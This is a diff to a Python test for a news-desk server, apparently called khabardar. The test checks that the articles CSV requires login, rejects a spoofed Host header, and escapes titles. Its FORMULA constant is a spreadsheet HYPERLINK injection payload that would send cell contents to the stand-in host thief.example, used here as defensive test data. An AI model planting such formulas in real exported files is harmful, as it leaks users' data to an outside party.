@@ -4,6 +4,7 @@ import asyncio
 import csv
 import http.client
 import io
+import os
 import re
 import subprocess
 import sys
@@ -21,6 +22,7 @@ from newsdesk.safe_csv import safe_rows
 from pipelines.items import Entry, Link, Source
 from tests.samples import NOW, kept_article
 
+ARTICLES = "/khabardar/articles.csv"
 FORMULA = '=HYPERLINK("http://thief.example/?"&A1,"Families sent back")'
 
 
@@ -107,27 +109,39 @@ def test_a_desk_that_others_can_reach_warns_and_still_refuses_strange_names(
     (tmp_path / "khabardar.toml").write_text("[catalogue]\nuse = false\n", encoding="utf8")
     command = [sys.executable, "-m", "khabardar", "-c", str(tmp_path / "khabardar.toml"), "serve"]
     opened = [*command, "--host", "0.0.0.0", "--port", "0", "--name", "desk.example.org"]
-    server = subprocess.Popen(opened, stderr=subprocess.PIPE, text=True)
+    known = {**os.environ, "KHABARDAR_DESK__PASSWORD": "quince 7"}
+    server = subprocess.Popen(opened, stderr=subprocess.PIPE, text=True, env=known)
     try:
         assert server.stderr
         assert "warning: whoever can reach this machine" in server.stderr.readline()
         port = re.search(r":(\d+)/", server.stderr.readline())
         assert port
         found = {}
-        for host in ("desk.example.org", "thief.example"):
+        cookie = ""
+        for name, host, path in (
+            ("stranger", "desk.example.org", ARTICLES),
+            ("login", "desk.example.org", "/-/login"),
+            ("reader", "desk.example.org", ARTICLES),
+            ("thief", "thief.example", ARTICLES),
+        ):
             asked = http.client.HTTPConnection("127.0.0.1", int(port[1]))
-            asked.request("GET", "/khabardar/articles.csv", headers={"Host": host})
+            body = "password=quince+7" if name == "login" else None
+            sent = {"Host": host, "Cookie": cookie}
+            asked.request("POST" if body else "GET", path, body, sent)
             answer = asked.getresponse()
-            found[host] = (answer.status, answer.read().decode())
+            found[name] = (answer.status, answer.read().decode())
+            cookie = str(answer.headers["set-cookie"] or cookie).partition(";")[0]
             asked.close()
     finally:
         server.terminate()
         server.wait(20)
         if server.stderr:
             server.stderr.close()
-    assert found["thief.example"][0] == 421
-    assert "--name thief.example" in found["thief.example"][1]
-    status, text = found["desk.example.org"]
+    assert found["thief"][0] == 421
+    assert "--name thief.example" in found["thief"][1]
+    assert found["stranger"][0] == 401
+    assert FORMULA not in found["stranger"][1]
+    status, text = found["reader"]
     assert status == 200
     (row,) = csv.DictReader(io.StringIO(text, newline=""))
     assert row["title"] == "'" + FORMULA
